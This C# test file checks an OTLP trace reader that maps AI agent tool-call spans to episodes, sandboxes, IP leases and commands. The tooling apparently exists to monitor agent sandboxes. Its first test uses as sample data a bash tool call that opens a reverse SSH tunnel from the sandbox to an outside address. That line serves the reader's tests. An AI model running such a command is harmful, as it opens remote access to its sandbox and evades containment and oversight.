// SPDX-License-Identifier: Apache-2.0
using System.Text.Json;
using CsCheck;
using FwCorrelate.Cases;
using FwCorrelate.Timelines;
using NodaTime;
using static FwCorrelate.Ingestion.Tests.Otlp.Spans;

namespace FwCorrelate.Ingestion.Tests.Otlp;

[TestClass]
public sealed class OtlpTests
{
    [TestMethod]
    public void Read_ToolSpan_TakesWhatItsAncestorsAndResourceSay()
    {
        var call = Reading.Timeline(
            Request(Span("e1", "a1", "execute_tool bash", Start, Start + 6_762_000_000, ("gen_ai.tool.name", "bash"), ("gen_ai.tool.call.id", "call_1"),
                ("gen_ai.tool.call.arguments", """{"command":"ssh -fN -R 2222:localhost:22 u@203.0.113.7"}"""), ("gen_ai.conversation.id", "c9"))),
            Request(Span("a1", "", "rollout", Start - 5, Start + 9, ("rl.episode.id", "ep-1"), ("sandbox.id", "sb-1"), ("rl.step", "3")))).Timeline.Calls.Single();
        Assert.AreEqual(("call_1", "bash", "ep-1", "sb-1", "3", "run-1"), (call.CallId, call.ToolName, call.EpisodeId, call.SandboxId, call.Step, call.RunId));
        Assert.AreEqual("ssh -fN -R 2222:localhost:22 u@203.0.113.7", call.Command);
        Assert.IsNull(call.Arguments);
        Assert.AreEqual(Start, (call.Start.Value - NodaConstants.UnixEpoch).ToInt64Nanoseconds());
        Assert.AreEqual((TimeBasis.Clock, false), (call.Start.Basis, call.IsOpen));
        Assert.AreEqual("traces/0.jsonl", call.Origin.File);
    }

    /// <summary>Spans of a printed request stand whole on lines of their own, the last of them without a comma.</summary>
    [TestMethod]
    public void Read_PrintedRequestWithSpansOnLinesOfTheirOwn_IsOneDocument()
    {
        var request = Request(Span("e1", "", "execute_tool a", Start, Start + 1), Span("e2", "", "execute_tool b", Start + 2, Start + 3));
        var printed = request.Replace("\"spans\":[", "\"spans\":[\n      ", StringComparison.Ordinal)
            .Replace("},{\"traceId\"", "},\n      {\"traceId\"", StringComparison.Ordinal).Replace("}]}]}]}", "}\n]}]}]}", StringComparison.Ordinal);
        Assert.HasCount(4, printed.Split('\n'));
        var reading = Reading.Timeline(printed);
        Assert.AreSequenceEqual(["a", "b"], reading.Timeline.Calls.Select(c => c.ToolName).Order());
        Assert.AreEqual(0, reading.Files[0].Rejected);
    }

    [TestMethod]
    [DataRow("{\"resourceSpans\":[{\"resource\":{\"attr")]
    [DataRow("{\"resourceSpans\":[")]
    [DataRow("{\"resourceSpans\":")]
    public void Read_FirstLineCutOff_CostsItself(string cut)
    {
        var whole = Request(Span("e1", "", "execute_tool a", Start, Start + 1));
        var reading = Reading.Timeline(cut + "\n" + whole + "\n" + Request(Span("e2", "", "execute_tool b", Start, Start + 1)) + "\n");
        Assert.HasCount(2, reading.Timeline.Calls);
        Assert.AreEqual(1, reading.Files[0].Rejected);
    }

    [TestMethod]
    public void Read_CasesOwnAttribute_ComesFirst()
    {
        var settings = CaseSettings.Default with { Attributes = new Dictionary<string, string> { ["sandbox"] = "my.box" } };
        var text = Request(Span("e1", "", "execute_tool bash", Start, Start + 1, ("sandbox.id", "sb-1"), ("my.box", "mine")));
        Assert.AreEqual("mine", Reading.Timeline(settings, text).Timeline.Calls.Single().SandboxId);
    }

    [TestMethod]
    [DataRow("\"5B8EFFF798038103D269B633813FC60C\"", "5b8efff798038103d269b633813fc60c")]
    [DataRow("\"0x5b8efff798038103d269b633813fc60c\"", "5b8efff798038103d269b633813fc60c")]
    [DataRow("\"W47/95gDgQPSabYzgT/GDA==\"", "5b8efff798038103d269b633813fc60c")]
    [DataRow("121691029388410109108889104302163740172", "5b8d005f5fe6a16b5de6aac2e7d1d20c")]
    public void Read_TraceIdOfAnyForm_IsLowerCaseHex(string id, string expected)
    {
        var actual = Reading.Timeline(Request(Span("e1", "", "execute_tool bash", Start, Start + 1)).Replace($"\"{Trace}\"", id, StringComparison.Ordinal)).Timeline.Calls.Single().TraceId;
        Assert.AreEqual(id.StartsWith('"') ? expected : UInt128.Parse(id, null).ToString("x32", null), actual);
    }

    [TestMethod]
    public void Read_EndBeforeStartOrMissing_IsOpenUntilItsChildrenEnd()
    {
        var calls = Reading.Timeline(Request(
            Span("e1", "", "execute_tool a", Start, Start - 50),
            Span("e2", "", "execute_tool b", Start + 1, 0),
            Span("e3", "e2", "exec", Start + 2, Start + 5_000))).Timeline.Calls;
        Assert.IsTrue(calls.All(c => c.IsOpen));
        Assert.AreEqual(calls[0].Start.Value, calls[0].End.Value);
        Assert.AreEqual(4_999, (calls[1].End.Value - calls[1].Start.Value).ToInt64Nanoseconds());
    }

    [TestMethod]
    public void Read_PlaceholderStart_IsRejectedAndSaysWhy()
    {
        var reading = Reading.Timeline(Request(Span("e1", "", "execute_tool a", 1_001_000_000_000, Start)));
        Assert.IsEmpty(reading.Timeline.Calls);
        StringAssert.Contains(reading.Rejected.Single().Reason, "within the years 2015 to 2100");
    }

    [TestMethod]
    public void Read_ConsoleSpansPrintedOneAfterTheOther_NaiveTimesAreInTheCasesZone()
    {
        const string span = """
            {
                "name": "execute_tool bash",
                "context": {"trace_id": "0x5b8efff798038103d269b633813fc60c", "span_id": "0xID"},
                "parent_id": null,
                "start_time": "2026-01-05 10:11:03.120000",
                "end_time": "2026-01-05T10:11:09.882000Z",
                "attributes": {"openinference.span.kind": "TOOL", "tool.name": "bash", "input.value": "ls", "host.ip": "[\"127.0.0.1\",\"10.8.3.21\"]", "sandbox.id": "s"}
            }
            """;
        var settings = CaseSettings.Default with { Zones = new Dictionary<string, DateTimeZone> { ["otlp-json"] = DateTimeZoneProviders.Tzdb["Asia/Shanghai"] } };
        var reading = Reading.Timeline(settings, $"{span.Replace("ID", "eee19b7ec3c1b174", StringComparison.Ordinal)}\n{span.Replace("ID", "eee19b7ec3c1b175", StringComparison.Ordinal)}\n");
        Assert.IsEmpty(reading.Rejected);
        Assert.HasCount(2, reading.Timeline.Calls);
        var call = reading.Timeline.Calls[1];
        Assert.AreEqual(Instant.FromUtc(2026, 1, 5, 2, 11, 3) + Duration.FromMilliseconds(120), call.Start.Value);
        Assert.AreEqual((TimeBasis.ClockNaive, TimeBasis.Clock), (call.Start.Basis, call.End.Basis));
        Assert.AreEqual((9, "10.8.3.21", "ls"), (call.Origin.Line, call.Address, call.Command));
        var lease = reading.Timeline.Leases.Single();
        Assert.IsFalse(lease.IsInventory);
        Assert.AreEqual(("s", "10.8.3.21/32"), (lease.OwnerId, lease.Address.ToString()));
    }

    [TestMethod]
    public void Read_RollTree_StepsOfATrajectoryAreCallsAndOthersAreNot()
    {
        var reading = Reading.Timeline(Request(
            Span("p1", "", "pipeline_step", Start, Start + 100, ("global_step", "7")),
            Span("p2", "p1", "rollout", Start, Start + 100),
            Span("p3", "p2", "trajectory", Start, Start + 100, ("traj_id", "t_0_1")),
            Span("p4", "p3", "generate", Start + 1, Start + 10),
            Span("p5", "p3", "step", Start + 11, Start + 20),
            Span("p6", "p1", "step", Start + 11, Start + 20)));
        var call = reading.Timeline.Calls.Single();
        Assert.AreEqual(("t_0_1", "7", "step"), (call.EpisodeId, call.Step, call.ToolName));
        var episode = reading.Timeline.Episodes.Single();
        Assert.AreEqual((1, 1, 1d), (episode.TurnsSeen, episode.TurnsWithCalls, episode.TraceCoverage));
    }

    [TestMethod]
    public void Read_TurnWhoseCallIsMissing_LowersTheCoverage()
    {
        const string asks = """[{"role":"assistant","parts":[{"type":"tool_call","id":"call_ID","name":"bash","arguments":{}}]}]""";
        const string answers = """[{"role":"assistant","parts":[{"type":"text","content":"Done."}]}]""";
        var episode = Reading.Timeline(Request(
            Span("m1", "", "chat m", Start, Start + 10, ("gen_ai.operation.name", "chat"), ("gen_ai.output.messages", asks.Replace("ID", "1", StringComparison.Ordinal))),
            Span("c1", "", "execute_tool bash", Start + 11, Start + 20, ("gen_ai.tool.call.id", "call_1")),
            Span("m2", "", "chat m", Start + 21, Start + 30, ("gen_ai.operation.name", "chat"), ("gen_ai.output.messages", asks.Replace("ID", "2", StringComparison.Ordinal))),
            Span("m3", "", "chat m", Start + 31, Start + 40, ("gen_ai.operation.name", "chat"), ("gen_ai.output.messages", answers)))).Timeline.Episodes.Single();
        Assert.AreEqual((3, 1, 1), (episode.TurnsSeen, episode.TurnsWithCalls, episode.TurnsWithoutTools));
        Assert.AreEqual(0.5, episode.TraceCoverage);
    }

    [TestMethod]
    public void Read_BadAndTruncatedLines_CostThoseLines()
    {
        var good = Request(Span("e1", "", "execute_tool a", Start, Start + 1));
        var reading = Reading.Timeline($"{good[..40]}\n{good}\n\n{{\"resourceLogs\":[]}}\n{good.Replace("e1", "e2", StringComparison.Ordinal)[..^9]}");
        Assert.HasCount(1, reading.Timeline.Calls);
        CollectionAssert.AreEqual(new long[] { 1, 5 }, reading.Rejected.Select(r => r.Line).ToArray());
        Assert.AreEqual((1, 2, 2), (reading.Files[0].Records, reading.Files[0].Rejected, reading.Files[0].Ignored));
    }

    [TestMethod]
    public void Read_FilesAndLinesInAnyOrder_SameTimeline()
    {
        var lines = Enumerable.Range(0, 12).Select(i => Request(
            Span($"{i:x2}", i % 3 == 0 ? "" : $"{i - (i % 3):x2}", i % 3 == 0 ? "rollout" : "execute_tool t", Start + i, i % 4 == 0 ? 0 : Start + 100 + i,
                ("rl.episode.id", $"e{i / 6}"), ("sandbox.id", $"s{i / 6}"), ("sandbox.ip", $"10.0.0.{i / 6}"))))
            .Concat([Request(Span("01", "00", "execute_tool t", Start, Start + 7, ("sandbox.id", "other")))]).ToArray();
        var expected = Canonical(Reading.Timeline(string.Join('\n', lines)).Timeline);
        Gen.Shuffle(lines).Select(Gen.Int[1, 3]).Sample((shuffled, files) =>
        {
            var texts = shuffled.Chunk((shuffled.Length / files) + 1).Select(c => string.Join('\n', c)).ToArray();
            Assert.AreEqual(expected, Canonical(Reading.Timeline(texts).Timeline));
        }, iter: 100);
    }

    [TestMethod]
    public void Read_LongCommand_IsReadWhole()
    {
        var arguments = JsonSerializer.Serialize(new { code = new string('x', 200_000) });
        var call = Reading.Timeline(Request(Span("e1", "", "execute_tool a", Start, Start + 1, ("gen_ai.tool.call.arguments", arguments)))).Timeline.Calls.Single();
        Assert.AreEqual(200_000, call.Command!.Length);
    }

    [TestMethod]
    [DataRow("OPENAI_trace.json", 1.0)]
    [DataRow("LANGCHAIN_trace.json", 2.0 / 3)] // one turn answers in prose, which may or may not be an action
    [DataRow("TINYAGENT_trace.json", 1.0)]
    public void Read_AnyAgent_NumbersOf128BitsAndNanosecondsAreExact(string file, double coverage)
    {
        var path = SharedCases.Path($"timelines/otel-genai-any-agent/{file}");
        var input = Reading.Input(path);
        Assert.IsInstanceOfType<Recognition.Trace>(ContentRecogniser.Recognise(input));
        var reading = TimelineReader.Read([(input, TraceFormats.Find("otlp-json")!)], [], CaseSettings.Default);
        Assert.IsEmpty(reading.Rejected);
        Assert.IsNotEmpty(reading.Timeline.Calls);
        var json = File.ReadAllText(path);
        foreach (var call in reading.Timeline.Calls)
        {
            Assert.Contains(UInt128.Parse(call.TraceId, System.Globalization.NumberStyles.HexNumber, null).ToString(null, null), json);
            Assert.Contains((call.Start.Value - NodaConstants.UnixEpoch).ToInt64Nanoseconds().ToString(null, null), json);
            Assert.IsNotNull(call.Command);
        }

        Assert.AreEqual(coverage, reading.Timeline.Episodes.Single().TraceCoverage);
    }

    [TestMethod]
    public void Read_PublicOtlpExample_HasSpansAndNoCalls()
    {
        var input = Reading.Input(SharedCases.Path("timelines/otlp-json/trace.json"));
        Assert.IsInstanceOfType<Recognition.Trace>(ContentRecogniser.Recognise(input));
        var reading = TimelineReader.Read([(input, TraceFormats.Find("otlp-json")!)], [], CaseSettings.Default);
        Assert.AreEqual((1, 0), (reading.Files[0].Records, reading.Files[0].Rejected));
        Assert.IsInstanceOfType<Recognition.Unrecognised>(ContentRecogniser.Recognise(Reading.Input(SharedCases.Path("timelines/otlp-json/events.json"))));
    }

    [TestMethod]
    public void Read_Lab_KnowsEveryCallWithItsEpisodeSandboxAndCommand()
    {
        var input = Reading.Input(SharedCases.Path("lab/timeline/traces.jsonl"));
        var reading = TimelineReader.Read([(input, TraceFormats.Find("otlp-json")!)], [], CaseSettings.Default);
        Assert.IsEmpty(reading.Rejected);
        var expected = File.ReadLines(SharedCases.Path("lab.calls.jsonl")).Select(l => JsonDocument.Parse(l).RootElement)
            .Where(c => c.GetProperty("source").GetString() == "otlp")
            .Select(c => string.Join('|', new[] { "call", "episode", "sandbox", "run", "command" }.Select(m => c.GetProperty(m).GetString()))).Order().ToList();
        var found = reading.Timeline.Calls.Select(c => string.Join('|', c.CallId, c.EpisodeId, c.SandboxId, c.RunId, c.Command)).Order().ToList();
        CollectionAssert.AreEqual(expected, found);
        Assert.HasCount(119, reading.Timeline.Episodes);
        Assert.IsTrue(reading.Timeline.Episodes.All(e => e.TraceCoverage == 1));
    }

    [TestMethod]
    public void Read_MutatedText_NeverThrowsAndAccountsForEveryLine()
    {
        var text = Request(Span("e1", "", "execute_tool a", Start, Start + 1, ("k", "v")), Span("e2", "e1", "chat m", Start, Start + 1, ("gen_ai.operation.name", "chat"), ("gen_ai.output.messages", "[{}]")));
        Mutations.Check($"{text}\n{text}\n", mutated =>
        {
            var reading = Reading.Timeline(System.Text.Encoding.Latin1.GetString(mutated));
            var file = reading.Files.Single();
            Assert.AreEqual(file.Rejected, reading.Rejected.Count);
            Assert.IsGreaterThanOrEqualTo(1, file.Records + file.Rejected + file.Ignored);
        });
    }

    private static string Canonical(Timeline timeline) => string.Join('\n',
        timeline.Calls.Select(c => (c with { Origin = c.Origin with { File = "", Line = 0, Offset = 0 } }).ToString())
            .Concat(timeline.Episodes.Select(e => e.ToString()))
            .Concat(timeline.Leases.Select(l => (l with { Origin = l.Origin with { File = "", Line = 0, Offset = 0 } }).ToString())));
}
